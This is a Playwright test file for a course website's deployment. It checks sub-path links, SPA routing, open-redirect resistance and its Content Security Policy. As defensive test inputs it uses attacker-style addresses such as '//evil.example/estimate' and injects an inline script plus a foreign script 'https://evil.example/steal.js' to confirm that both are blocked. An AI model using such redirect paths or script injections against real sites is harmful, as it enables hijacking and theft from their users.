// The site as deployed: under a sub-path (the `diploma` site, base /diploma/: every link and every
// request stays under it), on a bare SPA host that answers every path with index.html (the app
// renders the page of the address), at addresses that try to take the page elsewhere
// (`//evil.example/estimate`, issue 12 §7: no request ever leaves the site's origin, even where the
// deployer did not paste the security policy), and the security policy itself: the test base
// checks that every HTML answer carries csp.json's policy; here, that the policy does its work.
import { test, expect, gotoSite, gotoPartner, siteURL, expectFailure, newContext, ORIGIN, SPA_ORIGIN, PARTNER_ORIGIN } from './test-base.mjs';
import { LANGS, openLive } from './pages.mjs';

/** Every request the pages of `context` make, from now on. */
function record(context) {
  const urls = [];
  context.on('request', (r) => urls.push(r.url()));
  return urls;
}

test.describe('under a sub-path: /diploma/', () => {
  for (const [lang, t] of Object.entries(LANGS)) {
    test(`${lang}: every link and every request stays under /diploma/, served and live`, async ({ page, context }) => {
      const requests = record(context);
      const types = new Map();
      page.on('response', (r) => types.set(new URL(r.url()).pathname, r.headers()['content-type'] || ''));
      const links = () => page.locator('a[href]').evaluateAll((as) => as.map((a) => a.href));
      const under = (url) => new URL(url).origin !== new URL(ORIGIN).origin || new URL(url).pathname.startsWith('/diploma/');
      for (const path of ['', 'refund']) {
        await openLive(page, 'diploma', `${t.folder}${path}`);
        for (const href of await links()) expect(under(href), `${href} on ${page.url()}`).toBe(true);
      }
      // In the live app: the navigation, by clicking.
      const nav = page.getByRole('navigation', { name: t.nav.label });
      for (const [name, path] of [[t.nav.home, ''], [t.nav.refund, 'refund'], [t.nav.estimate, 'estimate'], [t.nav.apply, 'apply']]) {
        await nav.getByRole('link', { name, exact: true }).click();
        await expect(page).toHaveURL(siteURL('diploma', `${t.folder}${path}`));
        for (const href of await links()) expect(under(href), `${href} on ${page.url()}`).toBe(true);
      }
      for (const url of requests) expect(new URL(url).pathname.startsWith('/diploma/'), `request ${url}`).toBe(true);
      const wasm = [...types].filter(([p]) => p.endsWith('.wasm'));
      expect(wasm.length, 'the WebAssembly was fetched').toBe(1);
      for (const [path, type] of types) {
        if (path.endsWith('.wasm')) expect(type, path).toBe('application/wasm');
        if (path.endsWith('.js')) expect(type, path).toMatch(/^text\/javascript/);
        if (path.endsWith('.json')) expect(type, path).toMatch(/^application\/json/);
      }
    });
  }

  test('the not-found page under /diploma/ leads back under /diploma/', async ({ page }) => {
    expectFailure(siteURL('diploma', 'fr/nowhere'));
    await gotoSite(page, 'diploma', 'fr/nowhere');
    await page.getByRole('link', { name: LANGS.fr.backHome }).click();
    await expect(page).toHaveURL(siteURL('diploma', 'fr/'));
  });

  test('the data files are served next to the pages', async ({ request }) => {
    for (const file of ['edition.json', 'config.json', 'i18n/fr.json']) {
      const res = await request.get(siteURL('diploma', file));
      expect(res.status(), file).toBe(200);
      expect(res.headers()['content-type'], file).toMatch(/^application\/json/);
      await res.json();
    }
    expect((await (await request.get(siteURL('diploma', 'config.json'))).json()).site.base_path).toBe('/diploma/');
    const csv = await request.get(siteURL('diploma', 'data/wb-income-classification.csv'));
    expect(csv.status()).toBe(200);
    expect(await csv.text()).toMatch(/^iso3,name,region,fy2025/);
  });
});

test.describe('a bare SPA host: every path answered with index.html', () => {
  // What the app must show at each address, as the prerendered page of that address shows it.
  const ROUTES = [
    ['refund', 'en', 'Cancellations and refunds'],
    ['fr/refund', 'fr', 'Annulations et remboursements'],
    ['es/', 'es', LANGS.es.site],
    ['fr/no-such-page', 'fr', LANGS.fr.notFound],
    ['no-such-page', 'en', LANGS.en.notFound],
  ];
  for (const [path, lang, h1] of ROUTES) {
    test(`/${path}: the app renders that page${lang === 'en' ? '' : ` in ${LANGS[lang].name}`}`, async ({ page }) => {
      const res = await openLive(page, 'open', path, { spa: true });
      expect(res.headers()['x-e2e-file']).toBe('index.html');
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(h1);
      await expect(page.getByRole('navigation', { name: LANGS[lang].nav.label })).toBeVisible();
      await expect(page.locator('html')).toHaveAttribute('lang', lang);
      expect(new URL(page.url()).pathname).toBe(`/open/${path}`);
    });
  }

  test('a French browser: the page in French, loaded once', async ({ browser }) => {
    const context = await newContext(browser, { locale: 'fr-FR' });
    const page = await context.newPage();
    const documents = [];
    page.on('request', (r) => { if (r.resourceType() === 'document') documents.push(r.url()); });
    await gotoSite(page, 'open', 'refund', { spa: true, waitUntil: 'commit' });
    await expect(page.getByRole('heading', { level: 1 }), 'the French refund page (not a page that reloads itself again and again)')
      .toHaveText('Annulations et remboursements');
    expect(documents.length, `documents loaded: ${documents.slice(0, 5).join(', ')}`).toBeLessThanOrEqual(2);
    await context.close();
  });

  test('the refund page works there: its figures, its address, its links', async ({ page }) => {
    await openLive(page, 'diploma', 'refund?paid=330', { spa: true });
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Cancellations and refunds');
    await expect(page.getByTestId('refund-amount')).toHaveAttribute('data-amount', '247.50');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'The course' }).click();
    await expect(page).toHaveURL(siteURL('diploma', '/', { spa: true }));
    await expect(page.getByRole('main')).toContainText('Applications for the 4th edition are open until 16 October 2026 inclusive.');
  });
});

test.describe('addresses that try to take the page to another origin (issue 12 §7)', () => {
  // As nginx with merge_slashes serves them: the path /evil.example/estimate of this site. On the
  // nginx-like server each is a page this site does not have (its not-found page, in the language
  // `lang=` asks for); on the bare SPA host, index.html.
  const ADDRESSES = {
    nginx: ['//evil.example/estimate', '//evil.example/estimate?lang=fr', '//evil.example/fr/refund?lang=es', '///evil.example/', '/%2F%2Fevil.example/estimate?lang=fr', '/fr//evil.example/estimate?lang=en', '/es///evil.example/?lang=fr'],
    // (A language asked for on the bare SPA host is another test's: see "a bare SPA host".)
    spa: ['//evil.example/estimate', '//evil.example/fr/refund', '///evil.example/', '/%2F%2Fevil.example/estimate'],
  };

  for (const [server, origin] of [['nginx', ORIGIN], ['spa', SPA_ORIGIN]]) {
    for (const bypassCSP of [false, true]) {
      const where = `${server === 'nginx' ? 'the nginx-like server' : 'the bare SPA host'}, ${bypassCSP ? 'without the security policy (bypassed, as where the deployer did not paste it)' : 'with the security policy'}`;
      test.describe(where, () => {
        test.use({ realClock: true });
        test('no request leaves the origin; the page stays on it', async ({ browser }) => {
          for (const address of ADDRESSES[server]) {
            // Each a first visit: nothing remembered from the one before.
            const context = await newContext(browser, { bypassCSP });
            const requests = record(context);
            const page = await context.newPage();
            await gotoSite(page, 'root', '/', { spa: server === 'spa' }); // the real clock, on purpose: this is the build as shipped
            const url = `${origin}${address}`;
            if (server === 'nginx') {
              expectFailure(url);
              // And, when `lang=` asks for another language, the same path in that language.
              const { pathname, searchParams } = new URL(url);
              const lang = searchParams.get('lang');
              const rest = pathname.replace(/^\/+/, '').replace(/^(fr|es)\//, '').replace(/^\/+/, '');
              if (lang) expectFailure(`${origin}/${lang === 'en' ? '' : `${lang}/`}${rest}`);
            }
            await page.goto(url);
            await page.waitForLoadState('load');
            expect(new URL(page.url()).origin, address).toBe(origin);
            expect(await page.evaluate(() => document.baseURI), address).toBe(`${origin}/`);
            await expect(page.getByRole('heading', { level: 1 }), address).toBeVisible();
            expect(requests.filter((u) => new URL(u).origin !== origin), address).toEqual([]);
            await context.close();
          }
        });
      });
    }
  }

  test('under a sub-path too: /open//evil.example/estimate?lang=fr', async ({ page, context }) => {
    await gotoSite(page, 'open', '/'); // the site's clock
    const requests = record(context);
    const url = `${ORIGIN}/open//evil.example/estimate?lang=fr`;
    expectFailure(url);
    expectFailure(siteURL('open', 'fr/evil.example/estimate'));
    await page.goto(url);
    await expect(page).toHaveURL(siteURL('open', 'fr/evil.example/estimate'));
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(LANGS.fr.notFound);
    expect(await page.evaluate(() => document.baseURI)).toBe(siteURL('open', '/'));
    expect(requests.filter((u) => new URL(u).origin !== ORIGIN)).toEqual([]);
  });
});

test.describe('the security policy does its work', () => {
  test('an injected inline script does not run, a foreign script is refused before any request', async ({ page, checks }) => {
    await openLive(page, 'open', '/refund');
    const foreign = 'https://evil.example/steal.js';
    expectFailure(foreign);
    const outcome = new Map();
    page.on('requestfailed', (r) => outcome.set(r.url(), r.failure()?.errorText));
    page.on('response', (r) => outcome.set(r.url(), `HTTP ${r.status()}`));
    const ran = await page.evaluate(async (src) => {
      window.__ran = [];
      const inline = document.createElement('script');
      inline.textContent = 'window.__ran.push("inline")';
      document.head.append(inline);
      const external = document.createElement('script');
      external.src = src;
      const done = new Promise((resolve) => { external.onerror = resolve; external.onload = resolve; });
      document.head.append(external);
      await done;
      return window.__ran;
    }, foreign);
    expect(ran).toEqual([]);
    await expect.poll(() => outcome.get(foreign)).toBe('csp');
    // The browser said why for the inline one (the foreign one is the expected failure above).
    const problems = await checks.take();
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^console\.error: Executing inline script violates the following Content Security Policy directive 'script-src 'self' 'wasm-unsafe-eval' 'sha256-[^']+'/);
    expect(problems[0]).toContain('The action has been blocked.');
  });

  test('another origin cannot frame the site\'s pages', async ({ page, checks }) => {
    // The partner's page (another origin), which may frame the estimator (the embed policy lets
    // it), frames the refund page instead.
    await gotoPartner(page, 'open');
    await expect(page.locator('iframe')).toHaveCount(2);
    const target = siteURL('open', 'refund');
    const served = page.waitForResponse((r) => r.url() === target);
    await page.evaluate((src) => {
      const f = document.createElement('iframe');
      f.src = src;
      document.body.append(f);
    }, target);
    // The site served it (with csp.json's policy: the test base checks that); the browser refused
    // to show it, because of that policy.
    await served;
    const frame = await (await page.$(`iframe[src="${target}"]`)).contentFrame();
    await expect.poll(() => frame.url(), 'the frame shows the browser\'s error page, not the site\'s page').toMatch(/^chrome-error:/);
    // What the browser reports, and nothing else: the answer blocked, and why.
    const said = [];
    await expect.poll(async () => { said.push(...(await checks.take())); return said.length; }).toBeGreaterThanOrEqual(2);
    expect(said.sort()).toEqual([
      `console.error: Framing '${new URL(target).origin}/' violates the following Content Security Policy directive: "frame-ancestors 'self'". The request has been blocked.\n`,
      `request failed: GET ${target}: net::ERR_BLOCKED_BY_RESPONSE`,
    ]);
  });

  test('every answer says not to sniff its type', async ({ request }) => {
    for (const path of ['', 'refund', 'edition.json', 'i18n/en.json', 'embed.js']) {
      const res = await request.get(siteURL('open', path));
      expect(res.headers()['x-content-type-options'], path).toBe('nosniff');
    }
  });
});
